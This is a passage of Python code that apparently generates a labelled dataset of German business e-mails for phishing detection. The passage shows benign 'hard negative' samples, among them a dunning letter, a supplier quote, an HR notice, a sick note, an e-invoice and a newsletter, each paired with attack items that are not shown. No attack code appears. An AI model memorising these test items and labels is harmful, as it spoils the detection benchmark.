                                html(outlook_html(body), charset='iso-8859-15', cte='quoted-printable')], env.boundary(1))
    root = Multi('mixed', [alt, attachment(pdf, 'application/pdf', '2026-10-21_Bankverbindung_Lieferant_GmbH.pdf')], env.boundary(0))
    return std(env, addr('Lieferant GmbH - Buchhaltung', snd), addr('Hoffmann, Jürgen', 'juergen.hoffmann@example.com', 'iso-8859-15'),
               'Änderung unserer Bankverbindung zum 01.01.2027', root, subj_charset='iso-8859-15')


@business('de', 'lieferant-dunning-supply-stop', (2026, 11, 26, 11, 18, 20), 'juergen.hoffmann@example.com',
          'Genuine second dunning letter from Lieferant GmbH\'s key account manager with a threat to stop deliveries on 4 December.',
          'Real sender and server (own Exchange), consistent thread history and invoice numbers, payment explicitly to the long-known Stadtsparkasse account, asks for a phone call on dispute. Urgent and threatening but legitimate (contrast with attack/02 and attack/06).',
          pair='attack/02')
def b_de_dunning(c):
    snd = 's.maier@lieferant-gmbh.de'
    env = I.own_exchange(c, snd, 'mail.lieferant-gmbh.de', '195.145.211.34', 'EX01.lieferant.local', '192.168.20.10',
                         topic='2. Mahnung - offene Posten - Liefersperre ab 04.12.2026')
    body = """Sehr geehrter Herr Hoffmann,

trotz unserer Zahlungserinnerung vom 28.10. und der 1. Mahnung vom 12.11. ist die Rechnung RE-2026-04471 vom 18.09.2026 über 38.412,60 EUR weiterhin offen (fällig seit 18.10.2026).

Unser Kreditversicherer hat uns aufgefordert, das Limit für die Example Group AG zu überprüfen. Sollte der Betrag nicht bis zum 03.12.2026 bei uns eingegangen sein, müssen wir die Belieferung mit Siebbelägen und Verschleißteilen ab dem 04.12.2026 auf Vorkasse umstellen. Das betrifft auch die bereits bestätigte Lieferung der Brechbacken für das Werk Kelheim (AB 26-7731).

Falls die Zahlung zwischenzeitlich erfolgt ist oder es Klärungsbedarf zur Rechnung gibt, rufen Sie mich bitte direkt an. Zahlungen bitte wie immer auf unser bekanntes Konto bei der Stadtsparkasse Augsburg (IBAN %s).

Mit freundlichen Grüßen

Stefan Maier
Vertrieb / Key Account
Tel. +49 821 4597-0

%s
""" % (fmt_iban(BANK['lieferant_old']), LIEF_SIG)
    alt = Multi('alternative', [text(body, charset='iso-8859-15', cte='quoted-printable'),
                                html(outlook_html(body), charset='iso-8859-15', cte='quoted-printable')], env.boundary(0))
    return std(env, addr('Maier, Stefan', snd), addr('Hoffmann, Jürgen', 'juergen.hoffmann@example.com', 'iso-8859-15'),
               '2. Mahnung - RE-2026-04471 über 38.412,60 EUR - Liefersperre ab 04.12.2026', alt,
               cc=addr('Zöllner, Markus', 'markus.zoellner@example.com', 'iso-8859-15'), subj_charset='iso-8859-15')


@business('de', 'kessler-quote-reply', (2026, 10, 27, 10, 52, 9), 'markus.zoellner@example.com',
          'Genuine reply from Kessler Brechertechnik with quotation PDF for blow bars and impact plates, answering a procurement request.',
          'Same Microsoft 365 tenant as attack/03 but addressed personally, answers the actual question of the quoted message of the day before, the quote is attached as a normal PDF, no login required. Hard negative of attack/03.',
          pair='attack/03')
def b_de_kessler(c):
    snd = 'r.kessler@kessler-brecher.de'
    env = I.m365(c, snd, region='de', topic='Anfrage Schlagleisten und Prallplatten PB 1315 – Werk Kelheim', attach=True, tenant=KESSLER_TENANT)
    orig = '<%s@EXCH02.corp.example.com>' % c.hexs(32)
    quoted = """Von: Zöllner, Markus <markus.zoellner@example.com>
Gesendet: Montag, 26. Oktober 2026 15:37
An: Rainer Kessler <r.kessler@kessler-brecher.de>
Betreff: Anfrage Schlagleisten und Prallplatten PB 1315 - Werk Kelheim

Hallo Herr Kessler,

bitte um ein Angebot über 2 Sätze Schlagleisten und 1 Satz Prallplatten für den PB 1315 in Kelheim, Lieferung möglichst bis Mitte Dezember (Winterrevision).

Danke und Gruß
Markus Zöllner
Leitung Einkauf, Example Group AG"""
    body = """Hallo Herr Zöllner,

vielen Dank für Ihre Anfrage. Anbei unser Angebot 26-0914 über 2 Sätze Schlagleisten (Martensit) und 1 Satz Prallplatten für den PB 1315 im Werk Kelheim. Lieferzeit ca. 6 Wochen nach Bestellung; für die Winterrevision reicht es, wenn Sie bis 6. November bestellen. Montage durch unseren Service ist gern möglich (Tagessatz siehe Seite 2).

Die Preise gelten bis 31.12.2026. Für den Rahmenvertrag 2027 melde ich mich wie besprochen separat, sobald unsere neue Preisliste freigegeben ist.

Mit freundlichen Grüßen

Rainer Kessler
Geschäftsführer
Kessler Brechertechnik GmbH
Gewerbering 5 · 92224 Amberg
Tel. +49 9621 76650-0

""" + quoted
    L = [('h1', 'Kessler Brechertechnik GmbH'), ('s', 'Gewerbering 5 · 92224 Amberg · USt-IdNr. %s' % VAT['kessler']), '',
         'Example Group AG, Einkauf, Herrn Markus Zöllner', 'Am Kalkwerk 12, 93055 Regensburg', '',
         ('h2', 'Angebot 26-0914'), 'Datum: 27.10.2026   Gültig bis: 31.12.2026   Ihre Anfrage vom 26.10.2026', '---']
    L += table_lines([('Pos', 'Bezeichnung', 'Menge', 'EP EUR', 'GP EUR'),
                      ('1', 'Schlagleiste PB 1315, Martensit, Satz à 4', '2', '6.480,00', '12.960,00'),
                      ('2', 'Prallplatte PB 1315 oben/unten, Satz', '1', '4.215,00', '4.215,00'),
                      ('3', 'Fracht frei Werk Kelheim', '1', '380,00', '380,00'),
                      ('', 'Summe netto', '', '', '17.555,00'), ('', 'USt. 19 %', '', '', '3.335,45'), ('', 'Gesamt', '', '', '20.890,45')],
                     [5, 44, 7, 12, 12])
    L += ['---', 'Lieferzeit: ca. 6 Wochen nach Auftragseingang. Zahlung: 30 Tage netto.', '\f', ('h2', 'Service'),
          'Montage durch Kessler-Servicetechniker: Tagessatz 1.180,00 EUR zzgl. Anfahrt 0,95 EUR/km.',
          'Es gelten unsere Allgemeinen Liefer- und Montagebedingungen (Stand 01/2026).']
    pdf = make_pdf(L, title='Angebot 26-0914', author='R. Kessler', producer='Microsoft® Word für Microsoft 365', date='20261027104510+01\'00\'')
    alt = Multi('alternative', [text(body, charset='iso-8859-1', cte='quoted-printable'),
                                html(outlook_html(body), charset='iso-8859-1', cte='quoted-printable')], env.boundary(1))
    root = Multi('mixed', [alt, attachment(pdf, 'application/pdf', 'Angebot_26-0914_Example_Group.pdf')], env.boundary(0))
    return std(env, addr('Rainer Kessler', snd), addr('Zöllner, Markus', 'markus.zoellner@example.com', 'iso-8859-1'),
               'AW: Anfrage Schlagleisten und Prallplatten PB 1315 - Werk Kelheim', root, irt=orig, refs=orig, subj_charset='iso-8859-1')


@business('de', 'hr-christmas-bonus-notice', (2026, 11, 12, 13, 30, 0), 'katrin.schmid@example.com',
          'Genuine internal HR notice on the 2026 Christmas bonus and November payslips, with a warning about QR-code phishing in HR\'s name.',
          'Internal relay + Exchange, sent by HR to a distribution list, nothing to do for employees, points to the known DATEV Arbeitnehmer online portal and the intranet form; explicitly forbids bank changes by e-mail. Hard negative of attack/05 and attack/08.',
          pair='attack/05')
def b_de_hr(c):
    snd = 'claudia.brueckner@example.com'
    env = I.internal(c, snd, 'Info: Jahressonderzahlung 2026 und Entgeltabrechnung November', client_ip='10.20.31.18')
    body = """Liebe Kolleginnen und Kollegen,

die Jahressonderzahlung 2026 wird wie im Tarifvertrag vorgesehen mit der Novemberabrechnung ausgezahlt (Wertstellung 27.11.2026). Sie müssen dafür nichts tun – Ihre Daten liegen uns bereits vor.

Ihre Entgeltabrechnung finden Sie wie gewohnt ab dem 25.11. in DATEV Arbeitnehmer online (https://www.arbeitnehmer-online.de). Änderungen Ihrer Bankverbindung, Steuerklasse oder Anschrift teilen Sie uns bitte ausschließlich über das Formular „Stammdatenänderung“ im Intranet (HR > Formulare) mit; Änderungen per E-Mail – insbesondere von privaten Adressen – können wir aus Sicherheitsgründen nicht bearbeiten.

Achtung: Derzeit kursieren E-Mails, die im Namen von Personalabteilungen zum Scannen eines QR-Codes auffordern. Solche Nachrichten kommen nicht von uns. Bitte leiten Sie sie an it-security@example.com weiter.

Viele Grüße
Claudia Brückner
Personal & Entgeltabrechnung
Example Group AG · Tel. -180
"""
    alt = Multi('alternative', [text(body, charset='windows-1252', cte='quoted-printable'),
                                html(outlook_html(body), charset='windows-1252', cte='quoted-printable')], env.boundary(0))
    return std(env, addr('Brückner, Claudia', snd, 'windows-1252'), addr('Alle Mitarbeitenden Deutschland', 'alle-de@example.com'),
               'Info: Jahressonderzahlung 2026 und Entgeltabrechnung November', alt, subj_charset='windows-1252')


@business('de', 'sick-note-private-gmx', (2026, 11, 24, 7, 12, 51), 'claudia.brueckner@example.com',
          'Genuine sick-leave notice from an employee (Florian Bauer) from his long-used private GMX address.',
          'Real GMX infrastructure, private address known to HR, no request for money, data or credentials; refers to the electronic sick note (eAU) that HR retrieves from the health insurer. Hard negative of attack/08 (same employee, free-mail).',
          pair='attack/08')
def b_de_sick(c):
    snd = 'florian.bauer84@gmx.de'
    env = I.gmx(c, snd, '92.%d.%d.%d' % (c.rint(192, 223), c.rint(1, 254), c.rint(1, 254)))
    body = """Guten Morgen Frau Brückner,

ich bin seit gestern Abend mit Fieber und Magen-Darm flach und war heute früh beim Hausarzt. Ich bin bis einschließlich Freitag krankgeschrieben, die Praxis hat die eAU an die AOK Bayern übermittelt, Sie können sie wie üblich abrufen.

Ich schreibe von privat, weil der Firmenlaptop im Büro liegt. Herr Zöllner weiß Bescheid, die Disposition für Kelheim übernimmt bis Freitag Frau Vogt.

Viele Grüße
Florian Bauer
"""
    hbody = '<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;">' + \
        ''.join('<div>%s</div>\n' % (esc(l) or '&nbsp;') for l in body.rstrip('\n').split('\n')) + '</div></body></html>'
    alt = Multi('alternative', [text(body, charset='UTF-8', cte='quoted-printable'), html(hbody, charset='UTF-8', cte='quoted-printable')], env.boundary(0))
    return std(env, addr('Florian Bauer', snd), addr('', 'claudia.brueckner@example.com'),
               'Krankmeldung Florian Bauer', alt, style='generic')


@business('de', 'lieferant-xrechnung-invoice', (2026, 11, 5, 6, 2, 14), 'juergen.hoffmann@example.com',
          'Genuine machine-generated invoice from Lieferant GmbH\'s ERP: PDF plus XRechnung (UN/CEFACT CII XML) attachment.',
          'Real domain and server, invoice number consistent with the supplier\'s series, pays to the known Stadtsparkasse account, XML e-invoice attached as e-invoicing rules require; no links. Hard negative of attack/04.',
          pair='attack/04')
def b_de_xr(c):
    snd = 'rechnungen@lieferant-gmbh.de'
    env = I.own_exchange(c, snd, 'mail.lieferant-gmbh.de', '195.145.211.34', 'EX01.lieferant.local', '192.168.20.10', attach=True)
    env.extra = [('X-Mailer', 'Sage 100 9.0 Mailversand')]
    env.mid = '<%s.RE-2026-04988@lieferant-gmbh.de>' % c.hexs(16, True)
    old = BANK['lieferant_old']
    body = """Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-04988 vom 04.11.2026 als E-Rechnung (XRechnung 3.0, Syntax CII) sowie zusätzlich als PDF zur Ansicht. Maßgeblich ist die XML-Datei.

Rechnungsbetrag: 14.296,20 EUR, zahlbar bis 04.12.2026 ohne Abzug.
Bankverbindung: Stadtsparkasse Augsburg, IBAN %s

Bei Fragen zur Rechnung wenden Sie sich bitte an rechnungen@lieferant-gmbh.de oder +49 821 4597-0.

Mit freundlichen Grüßen
Lieferant GmbH - Buchhaltung
""" % fmt_iban(old)
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100" xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100" xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
  <rsm:ExchangedDocumentContext>
    <ram:BusinessProcessSpecifiedDocumentContextParameter><ram:ID>urn:fdc:peppol.eu:2017:poacc:billing:01:1.0</ram:ID></ram:BusinessProcessSpecifiedDocumentContextParameter>
    <ram:GuidelineSpecifiedDocumentContextParameter><ram:ID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</ram:ID></ram:GuidelineSpecifiedDocumentContextParameter>
  </rsm:ExchangedDocumentContext>
  <rsm:ExchangedDocument>
    <ram:ID>RE-2026-04988</ram:ID>
    <ram:TypeCode>380</ram:TypeCode>
    <ram:IssueDateTime><udt:DateTimeString format="102">20261104</udt:DateTimeString></ram:IssueDateTime>
  </rsm:ExchangedDocument>
  <rsm:SupplyChainTradeTransaction>
    <ram:IncludedSupplyChainTradeLineItem>
      <ram:AssociatedDocumentLineDocument><ram:LineID>1</ram:LineID></ram:AssociatedDocumentLineDocument>
      <ram:SpecifiedTradeProduct><ram:Name>Siebbelag PU 1220x1830, Masche 22 mm</ram:Name></ram:SpecifiedTradeProduct>
      <ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice><ram:ChargeAmount>1502.00</ram:ChargeAmount></ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>
      <ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="H87">8</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>
      <ram:SpecifiedLineTradeSettlement><ram:ApplicableTradeTax><ram:TypeCode>VAT</ram:TypeCode><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
        <ram:SpecifiedTradeSettlementLineMonetarySummation><ram:LineTotalAmount>12016.00</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation></ram:SpecifiedLineTradeSettlement>
    </ram:IncludedSupplyChainTradeLineItem>
    <ram:ApplicableHeaderTradeAgreement>
      <ram:BuyerReference>EG-4711-KEH</ram:BuyerReference>
      <ram:SellerTradeParty><ram:Name>Lieferant GmbH</ram:Name>
        <ram:PostalTradeAddress><ram:PostcodeCode>86167</ram:PostcodeCode><ram:LineOne>Industriestraße 14</ram:LineOne><ram:CityName>Augsburg</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress>
        <ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">%s</ram:ID></ram:SpecifiedTaxRegistration></ram:SellerTradeParty>
      <ram:BuyerTradeParty><ram:Name>Example Group AG</ram:Name>
        <ram:PostalTradeAddress><ram:PostcodeCode>93055</ram:PostcodeCode><ram:LineOne>Am Kalkwerk 12</ram:LineOne><ram:CityName>Regensburg</ram:CityName><ram:CountryID>DE</ram:CountryID></ram:PostalTradeAddress>
        <ram:SpecifiedTaxRegistration><ram:ID schemeID="VA">%s</ram:ID></ram:SpecifiedTaxRegistration></ram:BuyerTradeParty>
    </ram:ApplicableHeaderTradeAgreement>
    <ram:ApplicableHeaderTradeDelivery><ram:ActualDeliverySupplyChainEvent><ram:OccurrenceDateTime><udt:DateTimeString format="102">20261103</udt:DateTimeString></ram:OccurrenceDateTime></ram:ActualDeliverySupplyChainEvent></ram:ApplicableHeaderTradeDelivery>
    <ram:ApplicableHeaderTradeSettlement>
      <ram:InvoiceCurrencyCode>EUR</ram:InvoiceCurrencyCode>
      <ram:SpecifiedTradeSettlementPaymentMeans><ram:TypeCode>58</ram:TypeCode><ram:PayeePartyCreditorFinancialAccount><ram:IBANID>%s</ram:IBANID></ram:PayeePartyCreditorFinancialAccount></ram:SpecifiedTradeSettlementPaymentMeans>
      <ram:ApplicableTradeTax><ram:CalculatedAmount>2283.04</ram:CalculatedAmount><ram:TypeCode>VAT</ram:TypeCode><ram:BasisAmount>12016.00</ram:BasisAmount><ram:CategoryCode>S</ram:CategoryCode><ram:RateApplicablePercent>19</ram:RateApplicablePercent></ram:ApplicableTradeTax>
      <ram:SpecifiedTradePaymentTerms><ram:DueDateDateTime><udt:DateTimeString format="102">20261204</udt:DateTimeString></ram:DueDateDateTime></ram:SpecifiedTradePaymentTerms>
      <ram:SpecifiedTradeSettlementHeaderMonetarySummation>
        <ram:LineTotalAmount>12016.00</ram:LineTotalAmount><ram:TaxBasisTotalAmount>12016.00</ram:TaxBasisTotalAmount>
        <ram:TaxTotalAmount currencyID="EUR">2283.04</ram:TaxTotalAmount><ram:GrandTotalAmount>14299.04</ram:GrandTotalAmount>
        <ram:DuePayableAmount>14296.20</ram:DuePayableAmount>
      </ram:SpecifiedTradeSettlementHeaderMonetarySummation>
    </ram:ApplicableHeaderTradeSettlement>
  </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>
""" % (VAT['lieferant'], VAT['eg_de'], old)
    # rounding line keeps DuePayable consistent with the e-mail text (prepaid 2.84 EUR credit note)
    xml = xml.replace('<ram:DuePayableAmount>', '<ram:TotalPrepaidAmount>2.84</ram:TotalPrepaidAmount><ram:DuePayableAmount>')
    L = [('h1', 'Lieferant GmbH'), ('s', 'Industriestraße 14 · 86167 Augsburg · USt-IdNr. %s' % VAT['lieferant']), '',
         'Example Group AG', 'Kreditorenbuchhaltung', 'Am Kalkwerk 12, 93055 Regensburg', '',
         ('h2', 'Rechnung RE-2026-04988'), 'Rechnungsdatum 04.11.2026 · Lieferdatum 03.11.2026 · Leitweg/Bestellref. EG-4711-KEH', '---']
    L += table_lines([('Pos', 'Artikel', 'Menge', 'EP EUR', 'GP EUR'),
                      ('1', 'Siebbelag PU 1220x1830, Masche 22 mm', '8', '1.502,00', '12.016,00'),
                      ('', 'Nettobetrag', '', '', '12.016,00'), ('', 'USt. 19 %', '', '', '2.283,04'),
                      ('', 'Gutschrift GS-2026-0112', '', '', '-2,84'), ('', 'Zahlbetrag', '', '', '14.296,20')], [5, 42, 7, 12, 12])
    L += ['---', 'Zahlbar bis 04.12.2026 ohne Abzug auf: Stadtsparkasse Augsburg, IBAN %s, BIC AUGSDE77XXX' % fmt_iban(old),
          ('s', 'Diese PDF-Datei ist eine Sichtkopie. Die rechtlich maßgebliche E-Rechnung ist die beigefügte XRechnung (XML).')]
    pdf = make_pdf(L, title='Rechnung RE-2026-04988', producer='Sage 100 9.0 / PDF-Export', date='20261105060110+01\'00\'')
    root = Multi('mixed', [text(body, charset='iso-8859-1', cte='8bit', quote=False),
                           attachment(pdf, 'application/pdf', 'RE-2026-04988.pdf'),
                           attachment(xml.encode('utf-8'), 'application/xml', 'RE-2026-04988_xrechnung.xml')], '----=_Part_%d_%d' % (c.rint(1000, 9999), c.rint(10 ** 8, 10 ** 9)))
    return std(env, addr('Lieferant GmbH', snd), 'juergen.hoffmann@example.com',
               'Rechnung RE-2026-04988 der Lieferant GmbH', root, style='generic')


@business('de', 'newsletter-trade-mailchimp', (2026, 12, 3, 10, 0, 41), 'katrin.schmid@example.com',
          'Subscribed trade newsletter "Steinbruch & Sand Aktuell" sent through Mailchimp with List-Unsubscribe and one-click unsubscribe.',
          'Real Mailchimp infrastructure and bounce domain, consistent list headers, content is editorial (recycling ordinance, diesel prices, fair report), links to the publisher\'s own site; no requests.')
def b_de_news(c):
    snd = 'redaktion@steinbruch-sand.de'
    u, lid = 'a7c31f0e9b2d4c6e8f10a5b3c', '4e2b9d7f1a'
    env = I.mailchimp(c, snd, 'steinbruch-sand', u, lid)
    items = [('Ersatzbaustoffverordnung: Was die Novelle 2027 für RC-Baustoffe bedeutet',
              'Das Bundesumweltministerium hat den Referentenentwurf zur Änderung der EBV vorgelegt. Wir fassen zusammen, welche Materialklassen betroffen sind.'),
             ('Dieselpreise: Gewinnungsbetriebe rechnen mit Mehrkosten',
              'Eine Umfrage unter 140 Mitgliedsbetrieben zeigt, wie Steinbrüche und Kieswerke auf die CO2-Preis-Erhöhung 2027 reagieren.'),
             ('Nachlese: Steinexpo-Vorbereitung und Termine 2027',
              'Alle Termine für Fachtagungen, Sprengmeister-Fortbildungen und Messen im ersten Halbjahr.')]
    plain = 'Steinbruch & Sand Aktuell – Ausgabe 48/2026\n\n' + '\n\n'.join('%s\n%s\nWeiterlesen: https://www.steinbruch-sand.de/news/2026-48-%d' % (t, d, i + 1) for i, (t, d) in enumerate(items)) + \
        '\n\n--\nSie erhalten diesen Newsletter, weil Sie ihn unter steinbruch-sand.de abonniert haben.\nAbmelden: https://steinbruch-sand.us21.list-manage.com/unsubscribe?u=%s&id=%s\nVerlag Steinbruch & Sand GmbH, Rheinallee 40, 55118 Mainz\n' % (u, lid)
    h = '<!doctype html><html><head><meta charset="UTF-8"><title>Steinbruch &amp; Sand Aktuell</title></head><body style="margin:0;background:#eeeeee">' \
        '<center><table width="600" style="background:#ffffff;font-family:Georgia,serif"><tr><td style="padding:20px;background:#5b5b4f;color:#fff;font-size:22px">Steinbruch &amp; Sand Aktuell <span style="font-size:13px">Ausgabe 48/2026</span></td></tr>' + \
        ''.join('<tr><td style="padding:16px 20px"><h2 style="font-size:18px;margin:0 0 6px">%s</h2><p style="font-family:Arial;font-size:14px">%s</p><a href="https://steinbruch-sand.us21.list-manage.com/track/click?u=%s&amp;id=%s&amp;e=%s">Weiterlesen</a></td></tr>' % (esc(t), esc(d), u, c.hexs(10), c.hexs(10)) for t, d in items) + \
        '<tr><td style="padding:16px 20px;font-family:Arial;font-size:11px;color:#777">Sie erhalten diesen Newsletter, weil Sie ihn abonniert haben. <a href="https://steinbruch-sand.us21.list-manage.com/unsubscribe?u=%s&amp;id=%s">Abmelden</a> | <a href="https://steinbruch-sand.us21.list-manage.com/profile?u=%s&amp;id=%s">Einstellungen</a><br>Verlag Steinbruch &amp; Sand GmbH, Rheinallee 40, 55118 Mainz</td></tr></table></center>' % (u, lid, u, lid) + \
        '<img src="https://steinbruch-sand.us21.list-manage.com/track/open.php?u=%s&amp;id=%s&amp;e=%s" height="1" width="1" alt=""></body></html>' % (u, c.hexs(10), c.hexs(10))
    alt = Multi('alternative', [text(plain, charset='utf-8', cte='quoted-printable'), html(h, charset='utf-8', cte='quoted-printable')], env.boundary())
    return std(env, addr('Steinbruch & Sand Aktuell', snd), addr('', 'katrin.schmid@example.com', quote='angle'),
               'Ausgabe 48/2026: Novelle Ersatzbaustoffverordnung, Dieselpreise, Termine 2027', alt,
               reply_to=addr('Redaktion Steinbruch & Sand', snd))
